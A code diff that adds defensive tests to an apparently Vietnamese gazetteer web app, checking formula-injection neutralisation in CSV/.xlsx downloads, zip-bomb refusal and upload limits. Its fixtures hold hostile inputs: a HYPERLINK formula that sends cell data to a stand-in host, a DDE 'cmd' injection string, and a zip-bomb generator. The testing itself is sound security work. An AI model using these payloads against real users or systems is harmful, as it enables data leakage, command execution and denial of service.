@@ -539,3 +539,142 @@ def test_import_template_downloads_for_editors(figures_data, client_for, persona
 
 def test_answer_box_renders_nothing_without_an_answer():
     assert render_to_string("gazetteer/_answer_box.html", {"answer": None}).strip() == ""
+
+
+# Hostile text and hostile files -------------------------------------------------------------------
+
+FORMULA = '=HYPERLINK("http://example.com/?d="&A1,"Bấm vào đây")'
+
+
+def _hostile_figures(editor: object) -> Edition:
+    """An indicator, a source and a note an editor typed as formulas, in a published edition."""
+    do_save_indicator("cong-thuc", FORMULA, "@người", "-x", acting_user=editor)
+    indicator = Indicator.objects.get(code="cong-thuc")
+    vinh = Place.objects.get(code="412")
+    do_save_observations(
+        [
+            ObservationSpec(
+                indicator, vinh, 2019, Decimal("-5"), source="+cmd|' /C calc'!A0", note="\t=1+1"
+            )
+        ],
+        acting_user=editor,
+    )
+    return _publish(Edition.objects.aggregate(y=Max("year"))["y"] + 1, editor)
+
+
+def test_public_downloads_never_carry_a_live_formula(figures_data, client, personas):
+    """The anonymous CSV and .xlsx of an indicator and of a place: a cell the editor typed as
+    "=HYPERLINK(…)", "+…", "@…", tab… opens as text (a leading apostrophe), the negative
+    value stays a number, and the sheet title is no formula either."""
+    edition = _hostile_figures(personas.editor)
+    for name, code in (("gazetteer_indicator", "cong-thuc"), ("gazetteer_place", "412")):
+        csv_rows = _csv_rows(client.get(_url(f"{name}_csv", edition.year, code)))
+        row = next(r for r in csv_rows if r["indicator_code"] == "cong-thuc")
+        assert row["indicator_name"] == "'" + FORMULA
+        assert row["unit"] == "'@người"
+        assert row["source"].startswith("'+cmd") and row["note"] == "'\t=1+1"
+        assert row["value"] == "-5"
+
+        response = client.get(_url(f"{name}_xlsx", edition.year, code))
+        workbook = load_workbook(io.BytesIO(response.content))
+        assert not workbook.active.title.startswith(("=", "+", "-", "@"))
+        xlsx_row = next(r for r in _xlsx_rows(response) if r["indicator_code"] == "cong-thuc")
+        assert xlsx_row["indicator_name"] == "'" + FORMULA
+        assert xlsx_row["value"] == -5
+        for sheet_row in workbook.active.iter_rows():
+            for cell in sheet_row:
+                assert cell.data_type != "f", cell.coordinate  # no formula cell at all
+
+
+def test_a_neutralised_download_imports_back_unchanged(figures_data, client, personas):
+    """The apostrophe the download adds is read away by the import: nothing is revised."""
+    edition = _hostile_figures(personas.editor)
+    response = client.get(_url("gazetteer_indicator_csv", edition.year, "cong-thuc"))
+    result = import_observations(response.content, "x.csv", acting_user=personas.editor)
+    assert result.errors == []
+    assert (result.added, result.revised) == (0, 0)
+
+
+def _xlsx_bytes(rows: list[list[object]], *, title: str = "Số liệu") -> bytes:
+    workbook = Workbook()
+    workbook.active.title = title
+    for row in rows:
+        workbook.active.append(row)
+    out = io.BytesIO()
+    workbook.save(out)
+    return out.getvalue()
+
+
+def _zip_bomb(rows: int = 1_000_000) -> bytes:
+    """A small .xlsx whose sheet unpacks to a million rows (compressed, a few hundred KB)."""
+    import zipfile
+
+    source = zipfile.ZipFile(io.BytesIO(_xlsx_bytes([HEADER.split(",")])))
+    sheet = "".join(
+        f'<row r="{i}"><c r="A{i}" t="inlineStr"><is><t>x</t></is></c></row>'
+        for i in range(2, rows + 2)
+    )
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as bomb:
+        for info in source.infolist():
+            data = source.read(info.filename)
+            if info.filename == "xl/worksheets/sheet1.xml":
+                data = data.replace(b"</row>", b"</row>" + sheet.encode(), 1)
+            bomb.writestr(info.filename, data)
+    return out.getvalue()
+
+
+def test_a_zip_bomb_is_refused_in_vietnamese_and_nothing_is_written(
+    figures_data, client_for, personas
+):
+    """A million rows in a small .xlsx: 400 with the Vietnamese refusal, before parsing it."""
+    before = Observation.objects.count()
+    upload = SimpleUploadedFile("bom.xlsx", _zip_bomb())
+    response = _post(client_for(personas.editor), upload)
+    assert response.status_code == 400
+    errors = response.context["errors"]
+    assert len(errors) == 1 and errors[0].row is None
+    assert "giải nén" in errors[0].message or "dòng dữ liệu" in errors[0].message
+    assert Observation.objects.count() == before
+
+
+def test_a_file_over_the_upload_limit_is_413(figures_data, client_for, personas, settings):
+    settings.TINHUY_IMPORT_MAX_BYTES = 100
+    response = _post(client_for(personas.editor), _csv_file(*["dan-so,Vinh,2019,1,N,,"] * 20))
+    assert response.status_code == 413
+    assert "Tệp quá lớn" in response.content.decode()
+
+
+@pytest.mark.parametrize(
+    ("content", "words"),
+    [
+        (b"PK\x03\x04 not really a zip", "không đọc được như một bảng tính .xlsx"),
+        (b"\xd0\xcf\x11\xe0 old excel", ".xls"),
+    ],
+)
+def test_a_file_that_is_no_table_is_400_in_vietnamese(
+    figures_data, client_for, personas, content, words
+):
+    response = _post(client_for(personas.editor), SimpleUploadedFile("a.xlsx", content))
+    assert response.status_code == 400
+    assert words in response.context["errors"][0].message
+
+
+def test_xlsx_numbers_stay_numbers_and_a_formula_cell_reads_as_its_value(figures_data, personas):
+    """An .xlsx read by calamine: 1.234 typed as a number is not the ambiguous text "1.234";
+    a formula Excel saved with its value imports that value."""
+    content = _xlsx_bytes([HEADER.split(","), ["dan-so", "412", 2021, 1.234, "Nguồn", "", ""]])
+    result = import_observations(content, "a.xlsx", acting_user=personas.editor)
+    assert result.errors == [] and result.added == 1
+    assert Observation.objects.get(year=2021, place__code="412").value == Decimal("1.234")
+
+
+def test_the_import_page_lists_the_first_hundred_errors_and_counts_them_all(
+    figures_data, client_for, personas
+):
+    lines = [f"khong-co,Vinh,{2000 + i % 100},1,N,," for i in range(150)]
+    response = _post(client_for(personas.editor), _csv_file(*lines))
+    assert response.status_code == 400
+    errors = response.context["errors"]
+    assert len(errors) == 101 and "50 lỗi khác" in errors[-1].message
+    assert "Tệp có 150 lỗi" in response.content.decode()
